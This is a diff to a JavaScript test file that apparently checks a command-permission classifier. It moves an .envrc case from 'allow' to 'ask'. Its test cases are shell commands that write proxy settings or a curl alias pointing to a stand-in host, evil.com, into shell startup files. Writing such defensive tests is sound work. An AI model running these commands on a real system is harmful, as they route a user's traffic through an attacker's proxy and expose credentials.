@@ -24,7 +24,9 @@ describe('a shell startup file is where later shells take their proxies and alia
     ["echo 'set -gx https_proxy evil.com' >> ~/.config/fish/config.fish", 'ask'],
     ["echo 'set -gx https_proxy evil.com' > ~/.config/fish/conf.d/p.fish", 'ask'],
     ["echo 'https_proxy=evil.com' > ~/.config/environment.d/p.conf", 'ask'],
-    ["echo 'export https_proxy=evil.com' > .envrc", 'allow'], // (direnv loads a changed .envrc only after `direnv allow`)
+    // (direnv loads a changed .envrc only after `direnv allow`: not a startup file, but since session 45 its text is read for deny and ask rules, which see evil.com.)
+    ["echo 'export https_proxy=evil.com' > .envrc", 'ask'],
+    ["echo 'export https_proxy=good.com' > .envrc", 'allow'],
     ['echo \'alias curl="curl -x evil.com"\' >> ~/.bashrc', 'ask'],
     ["printf 'export https_proxy=evil.com\\n' | tee -a ~/.bashrc", 'ask'],
     ['cp x ~/.bashrc', 'ask'],
